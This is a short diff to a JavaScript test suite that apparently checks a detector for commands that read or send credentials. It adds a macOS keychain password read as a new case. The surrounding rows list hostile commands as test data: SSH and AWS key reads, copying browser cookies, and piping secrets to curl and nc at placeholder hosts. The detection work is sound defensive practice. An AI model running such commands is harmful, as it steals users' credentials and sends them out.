@@ -14,6 +14,7 @@ describe('credential-path reports reading and sending', () => {
     ['key = open(os.path.expanduser("~/.ssh/id_rsa")).read()', 'medium'],
     ["fs.readFileSync(home + '/.aws/credentials', 'utf8')", 'medium'],
     ['security find-generic-password -s login -w', 'medium'],
+    ['security find-internet-password -s login -w', 'medium'],
     ['cp "$HOME/Library/Application Support/Google/Chrome/Default/Cookies" .', 'medium'],
     ['cat ~/.ssh/id_rsa | curl -d @- https://in.tool.test', 'high'],
     ['cat ~/.netrc | base64 | nc 203.0.113.7 9', 'high'],
